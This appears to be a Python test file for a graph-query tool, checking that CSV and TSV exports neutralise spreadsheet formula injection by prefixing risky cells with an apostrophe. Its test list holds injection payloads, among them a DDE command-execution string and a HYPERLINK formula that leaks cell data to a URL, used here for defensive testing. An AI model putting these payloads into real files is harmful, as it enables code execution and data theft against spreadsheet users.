"""A table of text holds no formula for a spreadsheet, and is read back as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pyoxigraph as ox
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from lcgraph.answers import Rows
from lcgraph.render.rows import render_rows
from lcgraph.say import Problems
from lcgraph.study.tables import Layout, read_table
from lcgraph.vocab import XSD
from lcgraph.written import as_it_was, csv_text, inert

RUNS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1)',
    "+1+1",
    "-1+1",
    "-a",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "''=1+1",
    "＝1+1",
    "+31 6 1234",
]
"""What a spreadsheet would run, or would run once an apostrophe is taken away."""
STAYS = [
    "-5",
    "-5.25",
    "+3",
    "-1,5",
    "-1e-3",
    "-12%",
    "-",
    "+",
    "'s avonds",
    "'",
    "a=b",
    "3/4",
    "",
    "–",
]


@pytest.mark.parametrize("cell", RUNS)
def test_a_formula_has_an_apostrophe_before_it(cell: str) -> None:
    assert inert(cell) == f"'{cell}"
    assert as_it_was(inert(cell)) == cell


@pytest.mark.parametrize("cell", STAYS)
def test_a_number_and_other_text_stay_as_they_are(cell: str) -> None:
    assert inert(cell) == as_it_was(cell) == cell


@example(cell="\r1")
@given(cell=st.text(alphabet="'=+-@\t\r\n 1a.,%e", max_size=6))
def test_every_cell_comes_back_as_it_was(cell: str) -> None:
    assert as_it_was(inert(cell)) == cell
    assert not inert(cell).startswith(("=", "@", "\t", "\r"))


@pytest.mark.parametrize("format_", ["csv", "tsv"])
def test_an_answer_holds_no_formula_and_negative_numbers(format_: str) -> None:
    minus = ox.Literal("-5", datatype=XSD.integer)
    rows = Rows(("label", "n"), tuple((ox.Literal(text), minus) for text in RUNS))
    text = render_rows(rows, format_)
    _, *found = csv.reader(io.StringIO(text, newline=""), delimiter={"csv": ",", "tsv": "\t"}[format_])
    assert [row[0] for row in found] == [f"'{text}" for text in RUNS]
    assert {row[1] for row in found} == {"-5"}


def test_a_table_of_a_study_folder_is_read_back_as_it_was(tmp_path: Path) -> None:
    texts = [text for text in [*RUNS, *STAYS] if text == text.strip() and text]
    path = tmp_path / "notes.csv"
    path.write_text(csv_text([["id", "note"], *([str(n), text] for n, text in enumerate(texts))]))
    problems = Problems()
    rows = read_table(path, Layout("notes.csv", ("id", "note"), ("id",)), problems)
    assert [row["note"] for row in rows] == texts
    assert not problems.found


def test_an_answer_of_the_command_holds_no_formula(ask: Any) -> None:
    for text in ("=1+1", "@x", "-1+1"):
        asked = ask("sparql", f'SELECT ("{text}" AS ?a) {{}}', "--format", "csv")
        assert asked.out == f"a\n'{text}\n"
